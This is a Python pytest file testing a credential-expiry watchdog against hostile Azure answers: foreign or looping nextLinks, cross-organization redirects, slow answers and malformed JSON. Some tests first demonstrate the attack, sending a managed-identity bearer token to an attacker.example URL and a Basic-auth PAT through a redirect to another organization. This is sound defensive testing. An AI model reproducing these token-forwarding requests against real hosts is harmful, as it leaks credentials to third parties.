"""Answers that point elsewhere, and deadlines (docs/reference.md, "Answers and deadlines").

Each scenario is an attack a service's answer can make, against the sandbox with the real SDK clients:
first what the attack does to a client that trusts the answer, then the watchdog's defence. A nextLink
must not carry the managed identity's token to another host nor loop; a redirect must not carry the PAT
to another organization; a slow answer must not hold the run; an answer of another shape fails its
instance or its discovery, never the run.
"""

from __future__ import annotations

import base64
import io
import itertools
import json
import time
from dataclasses import replace

import pytest
import requests
from azure.core.rest import HttpRequest
from azure.identity import ManagedIdentityCredential
from azure.mgmt.web import WebSiteManagementClient

from pat_watchdog import cli
from pat_watchdog.sandbox.seed import SUBSCRIPTION
from tests import leaks
from tests.conftest import FAST_RETRY, NOW, CliResult
from tests.e2e.conftest import NAME, scene, titles
from tests.e2e.test_doctor import checks, plain
from tests.leaks import assert_no_leak

PER_NAME = {"WATCHDOG_STAGED_SECRET": "{name}-pat-staged", "WATCHDOG_PREVIOUS_SECRET": "{name}-pat-previous"}
DISCOVERY = {"WATCHDOG_AGGREGATOR_APP": f"/subscriptions/{SUBSCRIPTION}", **PER_NAME}
SITES = r"providers/Microsoft\.Web/sites\?"                 # the sites listing of a subscription or group
FOREIGN_PAGE = f"https://attacker.example/subscriptions/{SUBSCRIPTION}/providers/Microsoft.Web/sites?api-version=x"


@pytest.fixture(autouse=True)
def subscription_reader(sandbox):
    """Discovery and the host-name listing read the subscription's sites: the role at that scope
    (docs/reference.md, "Discovery across a subscription"), as a deployment that discovers grants it."""
    sandbox.arm.assign_aggregator_role(f"/subscriptions/{SUBSCRIPTION}")


def run(world, *argv: str, retry=FAST_RETRY, **env: str) -> CliResult:
    """`pat-watchdog ...` in-process with a given RetryPolicy (its deadlines scaled down); outputs leak-checked."""
    out, err = io.StringIO(), io.StringIO()
    code = cli.main(list(argv), env=world.env(**env), now=lambda: NOW, stdout=out, stderr=err, retry=retry)
    result = CliResult(code, out.getvalue(), err.getvalue())
    leaks.track(world)
    assert_no_leak(result.out, world.tokens, where="stdout")
    assert_no_leak(result.err, world.tokens, where="stderr")
    return result


def healthy(world, name: str, **kwargs) -> str:
    token, _ = world.issue(200)
    app = world.add_instance(name, token, **kwargs)
    world.stage(token, days=200, secret=f"{name}-pat-staged", tags={"watchdog-status": "current"})
    return app


def expired(world, name: str) -> str:
    token, _ = world.issue(-2)
    return world.add_instance(name, token)


def codes(instance: dict) -> list[str]:
    return [r["code"] for r in instance["reasons"]]


def message(instance: dict, code: str) -> str:
    return next(r["message"] for r in instance["reasons"] if r["code"] == code)


def arm_client() -> WebSiteManagementClient:
    """azure-mgmt-web as any client would build it: the pipeline a nextLink is handed to."""
    return WebSiteManagementClient(ManagedIdentityCredential(), SUBSCRIPTION, retry_total=0)


# ---------------------------------------------------------------------------------------------
# A nextLink to another host, to itself, or without a subscription
# ---------------------------------------------------------------------------------------------

def test_a_nextlink_to_another_host_never_gets_the_managed_identity_token(world, sandbox):
    # The attack: azure-core attaches ARM's bearer token to whatever URL it is given, a nextLink included.
    with arm_client() as client:
        client.send_request(HttpRequest("GET", FOREIGN_PAGE))
    assert sandbox.foreign.credentials == 1
    arrivals = len(sandbox.foreign.arrivals)
    # The defence: discovery stops at the foreign nextLink; what the first page found is still watched.
    sandbox.arm.page_size = 1
    healthy(world, "alphaaggregator", group="aggregator-alpha")
    healthy(world, "betaaggregator", group="aggregator-beta")
    sandbox.inject(method="GET", path=SITES, next_link=FOREIGN_PAGE)
    result = run(world, "status", "--json", **DISCOVERY)
    assert len(sandbox.foreign.arrivals) == arrivals, "a request reached the foreign host"
    assert [i["name"] for i in result.json["instances"]] == ["alphaaggregator"]
    assert result.instance("alphaaggregator")["status"] == "OK"
    [error] = result.json["errors"]
    assert "nextLink points at https://attacker.example" in error and "not followed" in error
    assert result.code == 3      # a discovery that failed leaves instances unchecked: UNKNOWN


def test_the_host_name_listing_refuses_a_foreign_nextlink_and_reads_each_site(world, sandbox, log_tap):
    sandbox.arm.page_size = 1
    for i in range(4):      # four sites named in one subscription: their host names come from its listing
        world.map_rule(healthy(world, f"team{i}aggregator", group=f"aggregator-team{i}"), "triage")
    foreign = f"https://attacker.example/subscriptions/{SUBSCRIPTION}/providers/Microsoft.Web/sites?x=1"
    sandbox.inject(method="GET", path=SITES, next_link=foreign, times=None)
    result = run(world, "status", "--json", **PER_NAME)
    assert sandbox.foreign.arrivals == []
    assert {i["status"] for i in result.json["instances"]} == {"OK"}
    assert "nextLink points at https://attacker.example" in log_tap.text()
    # the hosts came from one GET per site the listing did not reach
    assert sandbox.count(method="GET", path=r"/sites/team\daggregator\?api-version") == 3


def test_the_permissions_listing_refuses_a_foreign_nextlink(world, run_cli, sandbox, channels):
    plain(world)
    sandbox.inject(method="GET", path="providers/Microsoft.Authorization/permissions",
                   next_link="https://attacker.example/providers/Microsoft.Authorization/permissions", times=None)
    result = run_cli("doctor", "--json", **channels)
    found = checks(result)
    assert sandbox.foreign.arrivals == []
    assert result.code == 1 and found["instance.write"]["status"] == "FIX"
    assert "not followed" in found["instance.write"]["message"]


def test_a_nextlink_that_names_itself_ends_the_discovery_with_a_reason(world, sandbox):
    sandbox.arm.page_size = 1
    healthy(world, "alphaaggregator", group="aggregator-alpha")
    healthy(world, "betaaggregator", group="aggregator-beta")
    sandbox.inject(method="GET", path=SITES, next_link="{self}", times=None)
    result = run(world, "status", "--json", **DISCOVERY)
    assert sandbox.count(method="GET", path=SITES) == 1      # the page is not asked again
    [error] = result.json["errors"]
    assert "one already read: the listing loops" in error
    assert [i["name"] for i in result.json["instances"]] == ["alphaaggregator"]


def test_a_nextlink_without_a_subscription_fails_the_discovery_not_the_run(world, sandbox):
    sandbox.arm.page_size = 1
    healthy(world, "alphaaggregator", group="aggregator-alpha")
    healthy(world, "betaaggregator", group="aggregator-beta")
    sandbox.inject(method="GET", path=SITES, next_link="https://management.azure.com/providers/Microsoft.Web/"
                   "sites?api-version=2025-05-01")
    result = run(world, "status", "--json", **DISCOVERY)
    [error] = result.json["errors"]
    assert error.startswith(f"discovery in /subscriptions/{SUBSCRIPTION} failed: Azure Resource Manager: listing")
    assert result.instance("alphaaggregator")["status"] == "OK" and result.code == 3


def test_a_key_vault_versions_listing_that_loops_is_a_named_failure(world, sandbox):
    token, _ = world.issue(200)
    world.add_instance(NAME, token)
    world.stage(token, days=200, tags={"watchdog-status": "current"})
    sandbox.inject(method="GET", path="aggregator-pat-staged/versions", next_link="{self}", times=None)
    result = run(world, "status", "--json")
    inst = result.instance(NAME)
    assert "KEYVAULT_UNAVAILABLE" in codes(inst) and "INTERNAL_ERROR" not in codes(inst)
    assert "the listing loops" in message(inst, "KEYVAULT_UNAVAILABLE")
    assert sandbox.count(method="GET", path="aggregator-pat-staged/versions") <= 2


def test_a_listing_that_never_ends_stops_after_1000_pages(world, sandbox):
    token, _ = world.issue(200)
    world.add_instance(NAME, token)
    world.stage(token, days=200, tags={"watchdog-status": "current"})
    page = itertools.count(1)
    sandbox.inject(method="GET", path="aggregator-pat-staged/versions", times=None, next_link=lambda request: (
        f"https://{request.host}/secrets/aggregator-pat-staged/versions?api-version=7.5&$skiptoken={next(page)}"))
    result = run(world, "status", "--json")
    inst = result.instance(NAME)
    assert "more than 1000 pages: stopped" in message(inst, "KEYVAULT_UNAVAILABLE")
    assert sandbox.count(method="GET", path="aggregator-pat-staged/versions") == 1000


# ---------------------------------------------------------------------------------------------
# A redirect within dev.azure.com to another organization
# ---------------------------------------------------------------------------------------------

TO_FABRIKAM = {"Location": "https://dev.azure.com/fabrikam/_apis/connectionData?sig=not-for-any-report"}


def to_fabrikam(sandbox) -> list:
    return [r for r in sandbox.requests if r.host == "dev.azure.com" and r.path.lower().startswith("/fabrikam")]


def test_a_same_host_redirect_never_carries_the_pat_to_another_organization(world, sandbox):
    token, _ = world.issue(200)
    world.add_instance(NAME, token)
    world.stage(token, days=200, tags={"watchdog-status": "current"})
    # The attack: requests follows a redirect on the same host and keeps the Authorization header.
    sandbox.inject(host="dev.azure.com", path="contoso/_apis/connectionData", status=302, headers=TO_FABRIKAM)
    basic = base64.b64encode(f":{token}".encode()).decode()
    requests.get(f"{sandbox.devops.org_url('contoso')}/_apis/connectionData", headers={"Authorization": f"Basic {basic}"},
                 timeout=5)
    [carried] = to_fabrikam(sandbox)
    assert carried.headers.get("Authorization") == f"Basic {basic}"
    sandbox.reset_requests()
    # The defence: no redirect is followed; the answer is unknown, named with the Location's host only.
    sandbox.inject(host="dev.azure.com", path="contoso/_apis/connectionData", status=302, headers=TO_FABRIKAM,
                   times=None)
    result = run(world, "status", "--json")
    inst = result.instance(NAME)
    assert to_fabrikam(sandbox) == []
    assert inst["status"] == "UNKNOWN" and "DEVOPS_UNREACHABLE" in codes(inst)
    assert "HTTP 302: a redirect to dev.azure.com was not followed" in message(inst, "DEVOPS_UNREACHABLE")
    assert "not-for-any-report" not in result.out and "fabrikam" not in result.out


@pytest.mark.parametrize("path, code", [("_apis/Token/SessionTokens", "LISTING_UNAVAILABLE"),
                                        ("_apis/hooks/subscriptions", "SUBSCRIPTIONS_UNAVAILABLE")])
def test_no_azure_devops_call_follows_a_redirect(world, sandbox, path, code):
    token, _ = world.issue(200)
    world.add_instance(NAME, token)           # nothing staged: the listing is asked for the expiry
    location = {"Location": f"https://dev.azure.com/fabrikam/{path}?api-version=7.1"}
    sandbox.inject(path=f"contoso/{path}", status=307, headers=location, times=None)
    result = run(world, "status", "--json")
    inst = result.instance(NAME)
    assert to_fabrikam(sandbox) == [] and [r for r in sandbox.requests if "/fabrikam" in r.path.lower()] == []
    assert code in codes(inst) and "a redirect to dev.azure.com was not followed" in message(inst, code)


# ---------------------------------------------------------------------------------------------
# Deadlines: a call with its body, its retries, one instance, a run
# ---------------------------------------------------------------------------------------------

# Scaled down from 30 s / 60 s / 150 s / 540 s: the deadlines are the product's, the seconds the tests'.
QUICK = replace(FAST_RETRY, attempts=2, read_timeout=0.8, call=1.0, total=3.0)


@pytest.mark.parametrize("head", [False, True], ids=["body", "status line"])
def test_a_trickling_answer_is_cut_at_the_call_deadline(world, sandbox, head):
    token, _ = world.issue(200)
    world.add_instance(NAME, token)
    world.stage(token, days=200, tags={"watchdog-status": "current"})
    # A byte every 0.3 s: each read comes well within the 0.8 s read time-out, the answer takes minutes.
    sandbox.inject(host="dev.azure.com", path="connectionData", trickle=0.3, trickle_head=head, times=None)
    started = time.monotonic()
    result = run(world, "status", "--json", retry=QUICK)
    elapsed = time.monotonic() - started
    inst = result.instance(NAME)
    assert inst["status"] == "UNKNOWN"
    assert "no complete answer from dev.azure.com within one call's 1 s (answer included) after 2 attempts" in \
        message(inst, "DEVOPS_UNREACHABLE")
    assert elapsed < 2 * QUICK.call + 2.5, f"the run took {elapsed:.1f} s"
    assert sandbox.count(host="dev.azure.com", path="connectionData") == 2


def test_a_trickling_arm_answer_is_cut_by_the_sdk_deadline(world, sandbox):
    healthy(world, "alphaaggregator")
    healthy(world, "betaaggregator")
    sandbox.inject(method="POST", path="alphaaggregator/config/appsettings/list", trickle=0.3, times=None)
    started = time.monotonic()
    result = run(world, "status", "--json", retry=QUICK, **PER_NAME)
    inst = result.instance("alphaaggregator")
    assert inst["status"] == "UNKNOWN" and codes(inst) == ["ARM_UNREACHABLE"]
    assert "no complete answer within one call's 1 s (answer included)" in message(inst, "ARM_UNREACHABLE")
    assert result.instance("betaaggregator")["status"] == "OK"
    assert time.monotonic() - started < 2 * QUICK.call + 2.5


def test_an_instance_past_its_deadline_is_unknown_and_still_alerts_what_is_known(world, sandbox, channels):
    expired(world, "lateaggregator")
    healthy(world, "fineaggregator")
    # The expiry is known at once; then the staging vault hangs far past the instance's deadline.
    sandbox.inject(method="GET", path="lateaggregator-pat-staged/versions", hang=30, times=None)
    limits = replace(FAST_RETRY, attempts=2, read_timeout=5, call=5, total=10, instance=1.5)
    started = time.monotonic()
    result = run(world, "run", "--json", retry=limits, **channels, **PER_NAME)
    assert time.monotonic() - started < 5
    late = result.instance("lateaggregator")
    assert late["status"] == "CRITICAL" and {"EXPIRED", "DEADLINE_EXCEEDED", "KEYVAULT_UNAVAILABLE"} <= set(codes(late))
    assert "stopped at one instance's 1.5 s" in message(late, "DEADLINE_EXCEEDED")
    assert result.instance("fineaggregator")["status"] == "OK"
    assert "CRITICAL: lateaggregator" in titles(sandbox)


def test_a_run_observes_until_its_deadline_and_alerts_for_what_it_observed(world, sandbox, channels):
    expired(world, "firstaggregator")
    healthy(world, "slowaggregator")
    healthy(world, "thirdaggregator")
    healthy(world, "fourthaggregator")
    sandbox.inject(method="POST", path="slowaggregator/config/appsettings/list", hang=30, times=None)
    # One at a time; observing ends 1 s before the run's 3 s are up, the last second is for acting.
    limits = replace(FAST_RETRY, attempts=2, read_timeout=10, call=10, total=10, run=3.0, acting=1.0)
    started = time.monotonic()
    result = run(world, "run", "--json", retry=limits, WATCHDOG_CONCURRENCY="1", **channels, **PER_NAME)
    assert time.monotonic() - started < limits.run + 1.5
    by_name = {i["name"]: i for i in result.json["instances"]}
    assert by_name["firstaggregator"]["status"] == "CRITICAL"
    assert codes(by_name["slowaggregator"]) == ["DEADLINE_EXCEEDED"]
    for name in ("thirdaggregator", "fourthaggregator"):
        assert codes(by_name[name]) == ["DEADLINE_EXCEEDED"]
        assert message(by_name[name], "DEADLINE_EXCEEDED").startswith("not observed: the run's 3 s")
    assert "CRITICAL: firstaggregator" in titles(sandbox)


def test_past_the_run_deadline_an_instance_gets_its_alerts_and_no_rotation(world, sandbox, channels):
    s = scene(world, days_left=5.0)            # a replacement staged, rotation due
    # The token listing (asked to confirm Key Vault's date) hangs past the run's deadline.
    sandbox.inject(path="Token/SessionTokens", hang=30, times=None)
    limits = replace(FAST_RETRY, attempts=2, read_timeout=10, call=10, total=10, run=1.5, acting=0.0)
    result = run(world, "run", "--json", retry=limits, **channels)
    inst = result.instance(NAME)
    assert "DEADLINE_EXCEEDED" in codes(inst)
    rotation = [a for a in inst["actions"] if a["kind"] == "rotate"]
    assert [a["outcome"] for a in rotation] == ["skipped"] and "passed its deadline" in rotation[0]["detail"]
    assert sandbox.arm.writes == [] and world.token_setting(s.app) == s.old
    assert [a for a in inst["actions"] if a["kind"] == "alert" and a["outcome"] == "done"]
    assert f"WARNING: {NAME}" in titles(sandbox)


# ---------------------------------------------------------------------------------------------
# Answers of an unexpected shape
# ---------------------------------------------------------------------------------------------

SHAPES = {
    "settings list is a JSON list": (dict(method="POST", path="alphaaggregator/config/appsettings/list",
                                          status=200, body=[1, 2]), "ARM_UNREACHABLE", "not an object"),
    "settings list is not JSON": (dict(method="POST", path="alphaaggregator/config/appsettings/list", status=200,
                                       body="<html>maintenance</html>"), "ARM_UNREACHABLE", "not JSON"),
    "connectionData is a JSON list": (dict(path="_apis/connectionData", status=200, body=[]),
                                      "DEVOPS_UNREACHABLE", "unexpected shape"),
    "connectionData is not JSON": (dict(path="_apis/connectionData", status=200, body=b"{not json",
                                        headers={"Content-Type": "application/json"}),
                                   "DEVOPS_UNREACHABLE", "not a JSON object"),
    "a version without an id": (dict(method="GET", path="alphaaggregator-pat-staged/versions", status=200,
                                     body={"value": [{"attributes": {}}]}), "KEYVAULT_UNAVAILABLE",
                                "not a secret version"),
    "token listing value is a string": (dict(path="Token/SessionTokens", status=200, body={"value": "x"}),
                                        "LISTING_UNAVAILABLE", "unexpected shape"),
    "a token listing entry whose date is not one": (dict(path="Token/SessionTokens", status=200,
                                                        body={"value": [{"validTo": "soon"}]}),
                                                   "LISTING_UNAVAILABLE", "unexpected shape"),
    "hooks listing of numbers": (dict(path="hooks/subscriptions", status=200, body={"value": [1]}),
                                 "SUBSCRIPTIONS_UNAVAILABLE", "unexpected shape"),
}


@pytest.mark.parametrize("case", SHAPES)
def test_an_answer_of_an_unexpected_shape_fails_that_instance_only(world, sandbox, case):
    fault, code, words = SHAPES[case]
    token, _ = world.issue(200)
    world.add_instance("alphaaggregator", token)
    world.stage(token, days=200, secret="alphaaggregator-pat-staged", scopes=None)   # no scopes: the listing is asked
    healthy(world, "betaaggregator")
    # One instance at a time, alpha first: a fault on a shared Azure DevOps path meets alpha's call.
    sandbox.inject(**fault, times=None if "alpha" in fault["path"] else 1)
    result = run(world, "status", "--json", WATCHDOG_CONCURRENCY="1", **PER_NAME)
    alpha, beta = result.instance("alphaaggregator"), result.instance("betaaggregator")
    assert code in codes(alpha) and words in message(alpha, code), alpha["reasons"]
    assert "INTERNAL_ERROR" not in codes(alpha) + codes(beta)
    assert beta["status"] != "UNKNOWN"


def test_a_discovery_page_of_an_unexpected_shape_fails_the_discovery_not_the_run(world, sandbox):
    healthy(world, "alphaaggregator")
    sandbox.inject(method="GET", path=SITES, status=200, body={"value": {"not": "a list"}})
    result = run(world, "status", "--json", **DISCOVERY)
    [error] = result.json["errors"]
    assert "`value` is not a list of objects" in error and result.code == 3
    assert json.loads(result.out)["instances"] == []
